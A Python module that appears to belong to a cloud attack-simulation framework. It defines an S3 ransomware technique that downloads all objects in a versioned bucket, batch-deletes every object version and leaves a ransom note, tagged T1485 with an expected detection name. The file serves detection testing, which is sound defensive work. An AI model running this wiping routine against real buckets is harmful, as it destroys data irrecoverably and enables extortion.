"""S3 ransomware through batch object deletion."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, technique
from cloudsoc.simulate.techniques.impact._ransom_bucket import (
    NOTE,
    NOTE_KEY,
    RansomBucketTechnique,
    all_versions,
    download_all,
)


@technique
class S3RansomwareBatchDeletion(RansomBucketTechnique):
    title = "S3 ransomware through batch file deletion"
    attack = ("T1485",)
    expects = ("s3_object_versions_batch_deleted",)
    description = (
        "Downloads every object of a versioned bucket, lists every version and deletes them all in one "
        "DeleteObjects request (versioning is no protection), and leaves a ransom note."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        s3 = client("s3", session=ctx.attacker())
        bucket = state["bucket"]
        download_all(s3, bucket)
        versions = all_versions(s3, bucket)
        for start in range(0, len(versions), 1000):  # DeleteObjects takes at most 1000 keys
            s3.delete_objects(
                Bucket=bucket, Delete={"Objects": versions[start : start + 1000], "Quiet": True}
            )
        s3.put_object(Bucket=bucket, Key=NOTE_KEY, Body=NOTE)
